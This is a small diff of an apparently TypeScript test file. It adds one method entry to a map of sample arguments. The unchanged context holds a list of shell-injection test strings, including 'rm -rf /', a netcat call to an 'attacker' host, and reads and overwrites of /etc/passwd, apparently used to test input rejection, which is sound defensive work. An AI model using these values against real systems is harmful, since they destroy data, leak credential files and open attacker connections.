@@ -62,6 +62,7 @@ const SAMPLES: Record<Method, Record<string, unknown>> = {
   'lessons:networkInspect': { hostId: HOST, network: 'learn-bridge' },
   'lessons:cleanup': { track: 'bridge' },
   'cluster:snapshot': {},
+  'cluster:model': {},
 };
 
 const SHELL = ['; rm -rf /', '$(id)', '`id`', '| nc attacker 1', '&& reboot', "'; DROP", '\n/bin/sh', '${IFS}cat${IFS}/etc/passwd', '>/etc/passwd', '*'];
